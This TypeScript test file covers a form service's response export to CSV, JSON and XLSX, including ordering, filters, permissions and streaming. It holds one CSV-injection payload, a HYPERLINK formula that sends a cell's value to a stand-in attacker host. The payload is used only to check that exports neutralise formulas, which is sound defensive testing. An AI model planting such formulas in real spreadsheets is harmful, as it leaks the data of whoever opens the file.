import { randomUUID } from 'node:crypto';
import type { FormSchema } from '@formloom/contract';
import { parse } from 'csv-parse/sync';
import ExcelJS from 'exceljs';
import { beforeAll, expect, it } from 'vitest';
import { insertPublishedForm } from '../../../test/support/fixtures.js';
import { guestsSchema, publishForm } from '../../../test/support/page-fixtures.js';
import { describeEachDialect, type TestServer } from '../../../test/support/test-server.js';

/** Listed out of order on purpose: the export follows `order`, section by section. */
const schema: FormSchema = {
  version: '1.0',
  schemaVersion: '2025-01-01',
  meta: { title: 'Job application, "2026"', language: 'en' },
  sections: [
    { id: 'work', title: 'Work', order: 1 },
    { id: 'about', title: 'About', order: 0 },
  ],
  fields: [
    {
      id: 'plan',
      sectionId: 'work',
      type: 'radio',
      label: 'Plan',
      order: 0,
      options: [
        { label: 'Basic plan', value: 'basic' },
        { label: 'Team plan', value: 'team' },
      ],
    },
    {
      id: 'tools',
      sectionId: 'work',
      type: 'checkbox',
      label: 'Tools',
      order: 1,
      options: [
        { label: 'Figma', value: 'figma' },
        { label: 'Excel', value: 'excel' },
      ],
    },
    { id: 'cv', sectionId: 'work', type: 'file', label: 'CV', order: 2 },
    { id: 'note_work', sectionId: 'work', type: 'text', label: 'Note', order: 3 },
    { id: 'name', sectionId: 'about', type: 'text', label: 'Name', order: 0 },
    { id: 'age', sectionId: 'about', type: 'number', label: 'Age', order: 1 },
    { id: 'note_about', sectionId: 'about', type: 'text', label: 'Note', order: 2 },
    { id: 'utm_source', sectionId: 'about', type: 'hidden', label: 'Source', order: 3 },
  ],
  variables: [
    { id: 'score', type: 'number', expression: 1 },
    { id: 'grade', type: 'text', expression: 'pass' },
  ],
};

const COLUMNS = [
  'submittedAt',
  'id',
  'language',
  'Name',
  'Age',
  'Note [note_about]',
  'Source',
  'Plan',
  'Tools',
  'CV',
  'Note [note_work]',
  'score',
  'grade',
];

const FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")';

interface Seeded {
  id: string;
  submittedAt: string;
}

/** `count` responses written straight into the database, a minute apart from `start`. */
async function seedResponses(
  t: TestServer,
  form: { id: string; accountId: string },
  count: number,
  answers: (i: number) => Record<string, unknown>,
  start = Date.parse('2026-03-01T09:00:00.000Z'),
): Promise<Seeded[]> {
  const rows = Array.from({ length: count }, (_, i) => ({
    id: randomUUID(),
    form_id: form.id,
    account_id: form.accountId,
    answers: JSON.stringify(answers(i)),
    submitted_at: new Date(start + i * 60_000).toISOString(),
    idempotency_key: null,
    idempotency_fingerprint: null,
    language: i % 2 === 0 ? 'en' : 'de',
    variables: JSON.stringify({ score: i, grade: i % 2 === 0 ? 'pass' : 'fail' }),
  }));
  for (let i = 0; i < rows.length; i += 200) {
    await t.db
      .insertInto('responses')
      .values(rows.slice(i, i + 200))
      .execute();
  }
  return rows.map((r) => ({ id: r.id, submittedAt: r.submitted_at }));
}

async function download(t: TestServer, key: string, path: string) {
  const res = await fetch(`${t.url}${path}`, { headers: { authorization: `Bearer ${key}` } });
  return { res, bytes: Buffer.from(await res.arrayBuffer()) };
}

describeEachDialect('response export', (t) => {
  let key: string;
  const form = { id: randomUUID(), accountId: '' };
  let seeded: Seeded[];

  beforeAll(async () => {
    const account = await t.account('STARTER');
    key = account.key;
    form.accountId = account.accountId;
    await insertPublishedForm(t.db, {
      ...form,
      title: schema.meta.title,
      schema,
      at: '2026-02-01T00:00:00.000Z',
    });
    seeded = await seedResponses(t, form, 5, (i) =>
      i === 0
        ? {
            name: FORMULA,
            age: 41,
            note_about: 'Line one, "quoted"\nline two 🎉',
            utm_source: 'newsletter',
            plan: 'team',
            tools: ['figma', 'excel'],
            cv: { uploadId: 'u1', name: 'cv-ada.pdf', size: 1234, type: 'application/pdf' },
            note_work: '+1 (555) 0100',
          }
        : // An option removed from the form since keeps its value; a field the form no longer has is left out.
          { name: `Person ${i}`, plan: i === 1 ? 'enterprise' : 'basic', removed_field: 'x' },
    );
  });

  it('csv (the default): a column per field in form order, then per variable; labels, file names, no formulas', async () => {
    const { res, bytes } = await download(t, key, `/v1/forms/${form.id}/responses/export`);
    expect(res.status).toBe(200);
    expect(res.headers.get('content-type')).toBe('text/csv; charset=utf-8');
    expect(res.headers.get('content-disposition')).toMatch(
      /^attachment; filename="job-application-2026-responses-\d{4}-\d{2}-\d{2}\.csv"; filename\*=UTF-8''job-application-2026-responses-\d{4}-\d{2}-\d{2}\.csv$/,
    );
    const rows = parse(bytes, { columns: true }) as Record<string, string>[];
    expect(Object.keys(rows[0]!)).toEqual(COLUMNS);
    expect(rows.map((r) => r.id)).toEqual(seeded.map((s) => s.id));
    expect(rows[0]).toEqual({
      submittedAt: seeded[0]!.submittedAt,
      id: seeded[0]!.id,
      language: 'en',
      Name: `'${FORMULA}`,
      Age: '41',
      'Note [note_about]': 'Line one, "quoted"\nline two 🎉',
      Source: 'newsletter',
      Plan: 'Team plan',
      Tools: 'Figma, Excel',
      CV: 'cv-ada.pdf',
      'Note [note_work]': `'+1 (555) 0100`,
      score: '0',
      grade: 'pass',
    });
    expect(rows[1]).toMatchObject({
      language: 'de',
      Plan: 'enterprise',
      Tools: '',
      score: '1',
      grade: 'fail',
    });
    expect(rows[2]).toMatchObject({ Plan: 'Basic plan' });
    const bom = await download(t, key, `/v1/forms/${form.id}/responses/export?format=csv&bom=true`);
    expect([...bom.bytes.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
  });

  it('json: an array of the responses as the list returns them, oldest first, each with its display cells', async () => {
    const { res, bytes } = await download(t, key, `/v1/forms/${form.id}/responses/export?format=json`);
    expect(res.status).toBe(200);
    expect(res.headers.get('content-type')).toBe('application/json');
    const exported = JSON.parse(bytes.toString('utf8'));
    // Filtered, so the list counts rows (these were written around the form's response counter).
    const listed = (await t.request(`/v1/forms/${form.id}/responses?limit=100&startDate=2026-01-01`, { key }))
      .body.data.responses;
    expect(listed).toHaveLength(5);
    expect(exported.map(({ display: _, ...r }: Record<string, unknown>) => r)).toEqual([...listed].reverse());
    expect(exported[0].answers.tools).toEqual(['figma', 'excel']);
    expect(exported[0].display).toMatchObject({
      Tools: 'Figma, Excel',
      Plan: 'Team plan',
      CV: 'cv-ada.pdf',
      Age: 41,
    });
    expect(exported[0].variables).toEqual({ score: 0, grade: 'pass' });
  });

  it('xlsx: read back by exceljs, numbers as numbers, text never a formula', async () => {
    const { res, bytes } = await download(t, key, `/v1/forms/${form.id}/responses/export?format=xlsx`);
    expect(res.status).toBe(200);
    const book = new ExcelJS.Workbook();
    await book.xlsx.load(bytes as unknown as ArrayBuffer);
    const sheet = book.worksheets[0]!;
    expect(sheet.name).toBe('Responses');
    expect(sheet.rowCount).toBe(6);
    expect((sheet.getRow(1).values as unknown[]).slice(1)).toEqual(COLUMNS);
    const row = sheet.getRow(2);
    const cell = (name: string) => row.getCell(COLUMNS.indexOf(name) + 1);
    expect(cell('Name').formula).toBeUndefined();
    expect(cell('Name').value).toBe(FORMULA);
    expect(cell('Age').value).toBe(41);
    expect(cell('score').value).toBe(0);
    expect(cell('Tools').value).toBe('Figma, Excel');
  });

  it('filters by date range like the list (inclusive, a bare date is its whole day)', async () => {
    const from = seeded[1]!.submittedAt;
    const to = seeded[3]!.submittedAt;
    const ranged = await download(
      t,
      key,
      `/v1/forms/${form.id}/responses/export?format=json&startDate=${from}&endDate=${to}`,
    );
    expect(JSON.parse(ranged.bytes.toString('utf8')).map((r: { id: string }) => r.id)).toEqual(
      seeded.slice(1, 4).map((s) => s.id),
    );
    const day = await download(
      t,
      key,
      `/v1/forms/${form.id}/responses/export?format=json&endDate=2026-02-28`,
    );
    expect(JSON.parse(day.bytes.toString('utf8'))).toEqual([]);
  });

  it("answers 404 for another account's form, 403 without RESPONSES_READ, 400 for an unknown format", async () => {
    const other = await t.account('STARTER');
    expect((await t.request(`/v1/forms/${form.id}/responses/export`, { key: other.key })).status).toBe(404);
    const noScope = await t.account('STARTER', ['FORMS_READ']);
    expect((await t.request(`/v1/forms/${form.id}/responses/export`, { key: noScope.key })).status).toBe(403);
    expect((await t.request(`/v1/forms/${form.id}/responses/export?format=pdf`, { key })).status).toBe(400);
  });

  it('reads page by page as the client reads: a response stored after the first bytes is still in the file', async () => {
    const account = await t.account('STARTER');
    const big = { id: randomUUID(), accountId: account.accountId };
    await insertPublishedForm(t.db, { ...big, title: 'Big', schema, at: '2026-02-01T00:00:00.000Z' });
    // 4,000 responses of about 4 KB: 16 MB, more than the socket buffers hold, so the server
    // cannot have read them all when the client has read only its first bytes.
    const filler = 'x'.repeat(4_000);
    const rows = await seedResponses(t, big, 4_000, (i) => ({ name: `Person ${i}`, note_about: filler }));
    const res = await fetch(`${t.url}/v1/forms/${big.id}/responses/export?format=json`, {
      headers: { authorization: `Bearer ${account.key}` },
    });
    expect(res.status).toBe(200);
    const reader = res.body!.getReader();
    const chunks: Uint8Array[] = [];
    const first = await reader.read();
    expect(first.done).toBe(false);
    chunks.push(first.value!);
    // The database is free while the export waits for this reader.
    const count = await t.request(`/v1/forms/${big.id}/responses/count`, { key: account.key });
    expect(count.status).toBe(200);
    const late = await seedResponses(
      t,
      big,
      1,
      () => ({ name: 'Late' }),
      Date.parse('2026-06-01T00:00:00.000Z'),
    );
    for (;;) {
      const next = await reader.read();
      if (next.done) break;
      chunks.push(next.value);
    }
    const exported = JSON.parse(Buffer.concat(chunks).toString('utf8')) as { id: string }[];
    expect(exported).toHaveLength(4_001);
    expect(exported.map((r) => r.id)).toEqual([...rows, ...late].map((r) => r.id));
  });
});

describeEachDialect('response export of a repeating section', (t) => {
  let key = '';
  const form = { id: '', code: '', accountId: '' };
  const guests = [
    { name: 'Ada', age: 40, meal: 'fish' },
    { name: FORMULA, age: 7 },
  ];
  const GUEST_COLUMNS = [
    'submittedAt',
    'id',
    'language',
    'Your name',
    'Guests',
    'A note for the host',
    'count',
    'years',
  ];

  beforeAll(async () => {
    const account = await t.account('STARTER');
    key = account.key;
    Object.assign(form, await publishForm(t, key, guestsSchema()), { accountId: account.accountId });
    const res = await t.request(`/v1/public/forms/${form.code}/responses`, {
      method: 'POST',
      json: { answers: { host: '@Ann', guests, note: 'Fish, please' } },
    });
    expect(res.status, JSON.stringify(res.body)).toBe(201);
    // One stored before the section was asked for: its cell is empty.
    await seedResponses(t, form, 1, () => ({ host: 'Old' }), Date.parse('2099-01-01T00:00:00.000Z'));
  });

  it('csv: one column for the section, titled by it, its entries as JSON; formulas guarded as in any cell', async () => {
    const { res, bytes } = await download(t, key, `/v1/forms/${form.id}/responses/export`);
    expect(res.status).toBe(200);
    const rows = parse(bytes, { columns: true }) as Record<string, string>[];
    expect(Object.keys(rows[0]!)).toEqual(GUEST_COLUMNS);
    expect(rows[0]).toMatchObject({
      'Your name': "'@Ann",
      'A note for the host': 'Fish, please',
      count: '2',
    });
    expect(JSON.parse(rows[0]!.Guests!)).toEqual(guests);
    // A cell of entries begins with "[": never read as a formula, whatever an entry holds.
    expect(rows[0]!.Guests!.startsWith('[{')).toBe(true);
    expect(rows[1]).toMatchObject({ 'Your name': 'Old', Guests: '' });
  });

  it('json keeps the entries as a list; its display cell is the csv cell', async () => {
    const { bytes } = await download(t, key, `/v1/forms/${form.id}/responses/export?format=json`);
    const exported = JSON.parse(bytes.toString('utf8'));
    expect(exported[0].answers.guests).toEqual(guests);
    expect(JSON.parse(exported[0].display.Guests)).toEqual(guests);
    expect(exported[1].answers).toEqual({ host: 'Old' });
    expect(exported[1].display).toEqual({ 'Your name': 'Old' });
  });

  it('xlsx: the same column, a text cell of JSON', async () => {
    const { bytes } = await download(t, key, `/v1/forms/${form.id}/responses/export?format=xlsx`);
    const book = new ExcelJS.Workbook();
    await book.xlsx.load(bytes as unknown as ArrayBuffer);
    const sheet = book.worksheets[0]!;
    expect((sheet.getRow(1).values as unknown[]).slice(1)).toEqual(GUEST_COLUMNS);
    const cell = sheet.getRow(2).getCell(GUEST_COLUMNS.indexOf('Guests') + 1);
    expect(cell.formula).toBeUndefined();
    expect(JSON.parse(cell.value as string)).toEqual(guests);
    expect(sheet.getRow(2).getCell(GUEST_COLUMNS.indexOf('years') + 1).value).toBe(47);
  });
});
